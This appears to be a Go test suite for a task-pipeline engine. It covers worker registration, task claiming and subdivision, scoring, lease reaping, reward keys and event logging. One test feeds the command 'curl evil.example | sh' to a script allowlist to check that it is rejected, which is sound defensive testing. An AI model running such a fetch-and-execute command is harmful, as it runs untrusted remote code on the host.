package engine_test

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"facet/internal/config"
	"facet/internal/db"
	"facet/internal/domain"
	"facet/internal/engine"
	"facet/internal/engine/auth"
	"facet/internal/events"
	"facet/internal/migrate"
	"facet/internal/repo"
)

const testScript = "#!/bin/sh\nexec facet-worker \"$@\"\n"

type testEnv struct {
	Engine engine.Engine
	Ctx    context.Context
}

func newTestEnv(t *testing.T) testEnv {
	t.Helper()
	dir := t.TempDir()
	conn, err := db.Open(db.Config{Workspace: dir})
	if err != nil {
		t.Fatalf("open db: %v", err)
	}
	t.Cleanup(func() { conn.Close() })
	if err := migrate.Migrate(conn); err != nil {
		t.Fatalf("migrate: %v", err)
	}
	cfg := config.Default()
	cfg.Scripts.Allowed = []string{auth.ScriptHash(testScript)}
	eng := engine.New(conn, cfg)
	eng.Now = func() time.Time { return time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC) }
	return testEnv{Engine: eng, Ctx: context.Background()}
}

func addWorker(t *testing.T, env testEnv, name string) (domain.Worker, string) {
	t.Helper()
	w, key, err := env.Engine.RegisterWorker(env.Ctx, name, testScript)
	if err != nil {
		t.Fatalf("register worker %s: %v", name, err)
	}
	return w, key
}

func claimType(t *testing.T, env testEnv, workerID int64, taskType string) engine.TaskPayload {
	t.Helper()
	payload, err := env.Engine.ClaimNextTask(env.Ctx, workerID)
	if err != nil {
		t.Fatalf("claim: %v", err)
	}
	if payload.TaskType != taskType {
		t.Fatalf("claimed %s, want %s", payload.TaskType, taskType)
	}
	return payload
}

func submitOK(t *testing.T, env testEnv, taskID, workerID int64, raw string) engine.SubmitResult {
	t.Helper()
	res, err := env.Engine.SubmitTaskResult(env.Ctx, taskID, workerID, []byte(raw))
	if err != nil {
		t.Fatalf("submit task %d: %v", taskID, err)
	}
	return res
}

// setupChildIssue drives the pipeline to a granularity-2 issue: one input,
// its generation task, then the follow-up subdivision with a single child.
// Max granularity is lowered to 2 so the child never gets subdivided.
func setupChildIssue(t *testing.T, env testEnv, workerID int64) domain.Issue {
	t.Helper()
	env.Engine.Config.Granularity.Max = 2
	if _, err := env.Engine.SubmitInput(env.Ctx, "Migrate the billing monolith", "ten years of cruft"); err != nil {
		t.Fatalf("submit input: %v", err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatalf("generate: %v", err)
	}
	gen := claimType(t, env, workerID, domain.TypeGeneration)
	submitOK(t, env, gen.Task.ID, workerID, `{"name":"Billing migration","description":"split the monolith","field":"platform"}`)
	sub := claimType(t, env, workerID, domain.TypeSubdivision)
	submitOK(t, env, sub.Task.ID, workerID, `[{"name":"Extract invoicing","description":"first seam","field":"platform"}]`)
	issues, err := env.Engine.Repo.ListIssues(env.Ctx)
	if err != nil {
		t.Fatalf("list issues: %v", err)
	}
	for _, is := range issues {
		if is.Granularity == 2 {
			return is
		}
	}
	t.Fatalf("no child issue created")
	return domain.Issue{}
}

func TestGeneratorCreatesGenerationTasks(t *testing.T) {
	env := newTestEnv(t)
	if _, err := env.Engine.SubmitInput(env.Ctx, "First problem", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.SubmitInput(env.Ctx, "Second problem", ""); err != nil {
		t.Fatal(err)
	}
	task, err := env.Engine.GenerateNextTask(env.Ctx)
	if err != nil {
		t.Fatalf("generate: %v", err)
	}
	if task == nil || task.UserInputID == nil {
		t.Fatalf("expected a generation task bound to an input")
	}
	tasks, err := env.Engine.Repo.ListTasks(env.Ctx, repo.TaskFilters{})
	if err != nil {
		t.Fatal(err)
	}
	// both pending inputs are processed in one pass
	if len(tasks) != 2 {
		t.Fatalf("expected 2 tasks, got %d", len(tasks))
	}
	// no state change, no new tasks
	again, err := env.Engine.GenerateNextTask(env.Ctx)
	if err != nil {
		t.Fatalf("second generate: %v", err)
	}
	if again != nil {
		t.Fatalf("expected saturated pipeline, got task %d", again.ID)
	}
	tasks, _ = env.Engine.Repo.ListTasks(env.Ctx, repo.TaskFilters{})
	if len(tasks) != 2 {
		t.Fatalf("idempotence broken: %d tasks", len(tasks))
	}
}

func TestClaimSingleWinner(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "racer")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Contended problem", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	const claimants = 8
	results := make(chan error, claimants)
	var wg sync.WaitGroup
	for i := 0; i < claimants; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := env.Engine.ClaimNextTask(env.Ctx, w.ID)
			results <- err
		}()
	}
	wg.Wait()
	close(results)
	wins, empties := 0, 0
	for err := range results {
		switch {
		case err == nil:
			wins++
		case errors.Is(err, engine.ErrNoTasks):
			empties++
		default:
			t.Fatalf("unexpected claim error: %v", err)
		}
	}
	if wins != 1 || empties != claimants-1 {
		t.Fatalf("expected exactly one winner, got %d wins / %d empties", wins, empties)
	}
}

func TestClaimRequiresKnownWorker(t *testing.T) {
	env := newTestEnv(t)
	_, err := env.Engine.ClaimNextTask(env.Ctx, 999)
	if !errors.Is(err, repo.ErrNotFound) {
		t.Fatalf("expected not found for unknown worker, got %v", err)
	}
}

func TestGenerationCreatesRootIssue(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "gen")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Root problem", "some context"); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	payload := claimType(t, env, w.ID, domain.TypeGeneration)
	res := submitOK(t, env, payload.Task.ID, w.ID, `{"name":"Root issue","description":"the shape of it","field":"ops","context":"extra"}`)
	if res.Task.Status != domain.StatusCompleted {
		t.Fatalf("expected completed, got %s", res.Task.Status)
	}
	issues, err := env.Engine.Repo.ListIssues(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(issues) != 1 {
		t.Fatalf("expected 1 issue, got %d", len(issues))
	}
	is := issues[0]
	if is.Granularity != 1 || is.ParentID != nil {
		t.Fatalf("expected a granularity-1 root, got g%d parent=%v", is.Granularity, is.ParentID)
	}
	if is.ComplexityScore != domain.UnscoredRoot || is.ScopeScore != domain.UnscoredRoot {
		t.Fatalf("root scores %d/%d", is.ComplexityScore, is.ScopeScore)
	}
	// a finished generation primes the next pipeline stage immediately
	pending, _ := env.Engine.Repo.ListTasks(env.Ctx, repo.TaskFilters{Status: domain.StatusPending})
	if len(pending) != 1 {
		t.Fatalf("expected a follow-up task, got %d pending", len(pending))
	}
}

func TestSubdivisionCreatesChildren(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "sub")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Divide me", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	gen := claimType(t, env, w.ID, domain.TypeGeneration)
	submitOK(t, env, gen.Task.ID, w.ID, `{"name":"Parent","description":"d"}`)
	sub := claimType(t, env, w.ID, domain.TypeSubdivision)
	submitOK(t, env, sub.Task.ID, w.ID, `[{"name":"Left","description":"l"},{"name":"Right","description":"r"}]`)

	issues, err := env.Engine.Repo.ListIssues(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(issues) != 3 {
		t.Fatalf("expected parent plus 2 children, got %d issues", len(issues))
	}
	var parentID int64
	for _, is := range issues {
		if is.Granularity == 1 {
			parentID = is.ID
		}
	}
	children := 0
	for _, is := range issues {
		if is.Granularity != 2 {
			continue
		}
		children++
		if is.ParentID == nil || *is.ParentID != parentID {
			t.Fatalf("child %d not linked to parent %d", is.ID, parentID)
		}
		if is.ComplexityScore != domain.UnscoredChild || is.ScopeScore != domain.UnscoredChild {
			t.Fatalf("child scores %d/%d", is.ComplexityScore, is.ScopeScore)
		}
	}
	if children != 2 {
		t.Fatalf("expected 2 children, got %d", children)
	}
}

func TestSubdivisionSkippedAtMaxGranularity(t *testing.T) {
	env := newTestEnv(t)
	env.Engine.Config.Granularity.Max = 1
	w, _ := addWorker(t, env, "leaf")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Already atomic", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	gen := claimType(t, env, w.ID, domain.TypeGeneration)
	submitOK(t, env, gen.Task.ID, w.ID, `{"name":"Atom","description":"d"}`)

	task, err := env.Engine.GenerateNextTask(env.Ctx)
	if err != nil {
		t.Fatalf("generate: %v", err)
	}
	if task != nil {
		t.Fatalf("expected no task for a leaf-only tree, got task %d", task.ID)
	}
	pending, _ := env.Engine.Repo.ListTasks(env.Ctx, repo.TaskFilters{Status: domain.StatusPending})
	if len(pending) != 0 {
		t.Fatalf("expected empty queue, got %d pending", len(pending))
	}
}

func TestAnalysisInsights(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "analyst")
	child := setupChildIssue(t, env, w.ID)

	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	payload := claimType(t, env, w.ID, domain.TypeAnalysis)
	if payload.Task.IssueID == nil || *payload.Task.IssueID != child.ID {
		t.Fatalf("analysis task bound to wrong issue")
	}
	if !containsAll(payload.Instructions, "Evaluation criteria:", "complexity", "scope") {
		t.Fatalf("instructions missing metric catalog:\n%s", payload.Instructions)
	}
	submitOK(t, env, payload.Task.ID, w.ID, `[{"description":"tight coupling to ledger","field":"platform"},{"description":"no test harness"}]`)

	insights, err := env.Engine.Repo.ListInsights(env.Ctx, child.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(insights) != 2 {
		t.Fatalf("expected 2 insights, got %d", len(insights))
	}
	is, err := env.Engine.Repo.GetIssue(env.Ctx, child.ID)
	if err != nil {
		t.Fatal(err)
	}
	if !is.AnalysisDone {
		t.Fatalf("expected analysis_done flag")
	}
}

func TestEvaluationScores(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "judge")
	child := setupChildIssue(t, env, w.ID)

	// analysis first, then evaluation
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	analysis := claimType(t, env, w.ID, domain.TypeAnalysis)
	submitOK(t, env, analysis.Task.ID, w.ID, `[{"description":"one insight"}]`)
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	eval := claimType(t, env, w.ID, domain.TypeEvaluation)

	_, err := env.Engine.SubmitTaskResult(env.Ctx, eval.Task.ID, w.ID, []byte(`{"complexity":0,"scope":50}`))
	var oe engine.InvalidOutputError
	if !errors.As(err, &oe) {
		t.Fatalf("expected invalid output for out-of-range score, got %v", err)
	}
	// rejected submission put the task back; claim again and finish
	eval = claimType(t, env, w.ID, domain.TypeEvaluation)
	submitOK(t, env, eval.Task.ID, w.ID, `{"complexity":40,"scope":65}`)

	is, err := env.Engine.Repo.GetIssue(env.Ctx, child.ID)
	if err != nil {
		t.Fatal(err)
	}
	if is.ComplexityScore != 40 || is.ScopeScore != 65 {
		t.Fatalf("scores %d/%d, want 40/65", is.ComplexityScore, is.ScopeScore)
	}
}

func TestPropositionAndExtrapolation(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "thinker")
	child := setupChildIssue(t, env, w.ID)

	// materialize the whole deep pipeline for the child, one task per call
	for i := 0; i < 4; i++ {
		if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
			t.Fatal(err)
		}
	}
	claimType(t, env, w.ID, domain.TypeAnalysis)
	claimType(t, env, w.ID, domain.TypeEvaluation)
	prop := claimType(t, env, w.ID, domain.TypeProposition)
	submitOK(t, env, prop.Task.ID, w.ID, `[{"name":"Strangler fig","description":"route by route"}]`)
	extr := claimType(t, env, w.ID, domain.TypeExtrapolation)
	submitOK(t, env, extr.Task.ID, w.ID, `[{"name":"Ledger rewrite","description":"follows naturally"},{"name":"Team split"}]`)

	proposals, err := env.Engine.Repo.ListProposals(env.Ctx, child.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(proposals) != 1 {
		t.Fatalf("expected 1 proposal, got %d", len(proposals))
	}
	extrapolations, err := env.Engine.Repo.ListExtrapolations(env.Ctx, child.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(extrapolations) != 2 {
		t.Fatalf("expected 2 extrapolations, got %d", len(extrapolations))
	}
	task, err := env.Engine.GenerateNextTask(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if task != nil {
		t.Fatalf("pipeline should be saturated, got task %d", task.ID)
	}
}

func TestBadOutputReleasesTask(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "clumsy")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Fragile", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	payload := claimType(t, env, w.ID, domain.TypeGeneration)

	_, err := env.Engine.SubmitTaskResult(env.Ctx, payload.Task.ID, w.ID, []byte(`{"name":`))
	var oe engine.InvalidOutputError
	if !errors.As(err, &oe) {
		t.Fatalf("expected invalid output, got %v", err)
	}
	task, err := env.Engine.Repo.GetTask(env.Ctx, payload.Task.ID)
	if err != nil {
		t.Fatal(err)
	}
	if task.Status != domain.StatusPending || task.WorkerID != nil {
		t.Fatalf("task not released: status=%s worker=%v", task.Status, task.WorkerID)
	}
	issues, _ := env.Engine.Repo.ListIssues(env.Ctx)
	if len(issues) != 0 {
		t.Fatalf("rejected output leaked %d issues", len(issues))
	}
	worker, _ := env.Engine.Repo.GetWorker(env.Ctx, w.ID)
	if worker.TaskCounter != 0 {
		t.Fatalf("rejected output credited the worker: counter=%d", worker.TaskCounter)
	}
}

func TestReaperTimeoutBoundary(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "slow")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Stuck", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	t0 := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	payload := claimType(t, env, w.ID, domain.TypeGeneration)

	// exactly at the timeout the lease still holds
	env.Engine.Now = func() time.Time { return t0.Add(5 * time.Minute) }
	n, err := env.Engine.ReapStuckTasks(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Fatalf("reaped %d tasks at the boundary", n)
	}

	env.Engine.Now = func() time.Time { return t0.Add(5*time.Minute + time.Second) }
	n, err = env.Engine.ReapStuckTasks(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if n != 1 {
		t.Fatalf("expected 1 reaped task, got %d", n)
	}
	task, _ := env.Engine.Repo.GetTask(env.Ctx, payload.Task.ID)
	if task.Status != domain.StatusPending || task.WorkerID != nil {
		t.Fatalf("reaped task not reset: status=%s worker=%v", task.Status, task.WorkerID)
	}

	// the original owner's late submission is now stale
	_, err = env.Engine.SubmitTaskResult(env.Ctx, payload.Task.ID, w.ID, []byte(`{"name":"too late"}`))
	if !errors.Is(err, engine.ErrNotOwner) {
		t.Fatalf("expected stale submission rejection, got %v", err)
	}
}

func TestRewardKeyAtThreshold(t *testing.T) {
	env := newTestEnv(t)
	env.Engine.Config.Rewards.Threshold = 2
	w, _ := addWorker(t, env, "earner")
	if _, err := env.Engine.SubmitInput(env.Ctx, "One", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.SubmitInput(env.Ctx, "Two", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}

	first := claimType(t, env, w.ID, domain.TypeGeneration)
	res := submitOK(t, env, first.Task.ID, w.ID, `{"name":"Issue one"}`)
	if res.RewardKey != "" {
		t.Fatalf("reward minted below threshold")
	}
	worker, _ := env.Engine.Repo.GetWorker(env.Ctx, w.ID)
	if worker.TaskCounter != 1 {
		t.Fatalf("counter=%d after first completion", worker.TaskCounter)
	}

	second := claimType(t, env, w.ID, domain.TypeGeneration)
	res = submitOK(t, env, second.Task.ID, w.ID, `{"name":"Issue two"}`)
	if res.RewardKey == "" {
		t.Fatalf("expected a reward key at the threshold")
	}
	worker, _ = env.Engine.Repo.GetWorker(env.Ctx, w.ID)
	if worker.TaskCounter != 0 {
		t.Fatalf("counter not reset: %d", worker.TaskCounter)
	}
	id, err := env.Engine.Auth.ValidateKey(env.Ctx, res.RewardKey)
	if err != nil || id != w.ID {
		t.Fatalf("reward key does not authenticate: id=%d err=%v", id, err)
	}
}

func TestRegisterWorkerScriptGate(t *testing.T) {
	env := newTestEnv(t)
	_, _, err := env.Engine.RegisterWorker(env.Ctx, "rogue", "curl evil.example | sh")
	var se auth.ScriptRejectedError
	if !errors.As(err, &se) {
		t.Fatalf("expected script rejection, got %v", err)
	}
}

func TestIssueTree(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "arborist")
	setupChildIssue(t, env, w.ID)
	roots, err := env.Engine.IssueTree(env.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(roots) != 1 {
		t.Fatalf("expected 1 root, got %d", len(roots))
	}
	if len(roots[0].Children) != 1 {
		t.Fatalf("expected 1 child under the root, got %d", len(roots[0].Children))
	}
}

func TestEventsRecorded(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "logged")
	if _, err := env.Engine.SubmitInput(env.Ctx, "Traced", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}
	payload := claimType(t, env, w.ID, domain.TypeGeneration)
	submitOK(t, env, payload.Task.ID, w.ID, `{"name":"Traced issue"}`)

	for _, evtType := range []string{"input.submitted", "worker.registered", "task.created", "task.claimed", "task.completed", "issue.created"} {
		var count int
		if err := env.Engine.DB.QueryRowContext(env.Ctx, `SELECT count(*) FROM events WHERE type=?`, evtType).Scan(&count); err != nil {
			t.Fatalf("query events: %v", err)
		}
		if count == 0 {
			t.Fatalf("no %s event recorded", evtType)
		}
	}

	// Every event carries the engine clock, not the wall clock.
	rows, err := env.Engine.DB.QueryContext(env.Ctx, `SELECT DISTINCT ts FROM events`)
	if err != nil {
		t.Fatalf("query event timestamps: %v", err)
	}
	defer rows.Close()
	for rows.Next() {
		var ts string
		if err := rows.Scan(&ts); err != nil {
			t.Fatal(err)
		}
		if ts != "2024-01-01T00:00:00Z" {
			t.Fatalf("event ts %s, want the fixed clock", ts)
		}
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
}

type recordingSink struct {
	mu       sync.Mutex
	messages []events.Message
}

func (s *recordingSink) Publish(topic string, payload any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.messages = append(s.messages, events.Message{Topic: topic, Payload: payload})
}

func (s *recordingSink) snapshot() []events.Message {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]events.Message(nil), s.messages...)
}

func TestClaimPublishesTaskList(t *testing.T) {
	env := newTestEnv(t)
	w, _ := addWorker(t, env, "streamer")
	for _, title := range []string{"First", "Second"} {
		if _, err := env.Engine.SubmitInput(env.Ctx, title, ""); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := env.Engine.GenerateNextTask(env.Ctx); err != nil {
		t.Fatal(err)
	}

	sink := &recordingSink{}
	env.Engine.Sink = sink
	if _, err := env.Engine.ClaimNextTask(env.Ctx, w.ID); err != nil {
		t.Fatalf("claim: %v", err)
	}

	var tasks []domain.Task
	for _, m := range sink.snapshot() {
		if m.Topic == "tasks" {
			tasks, _ = m.Payload.([]domain.Task)
		}
	}
	if len(tasks) != 2 {
		t.Fatalf("published %d tasks, want the full list of 2", len(tasks))
	}
	var active int
	for _, task := range tasks {
		if task.Status == domain.StatusActive {
			active++
			if task.WorkerID == nil || *task.WorkerID != w.ID {
				t.Fatalf("active task %d not assigned to worker %d", task.ID, w.ID)
			}
		}
	}
	if active != 1 {
		t.Fatalf("published list has %d active tasks, want 1", active)
	}
}

func containsAll(s string, subs ...string) bool {
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			return false
		}
	}
	return true
}
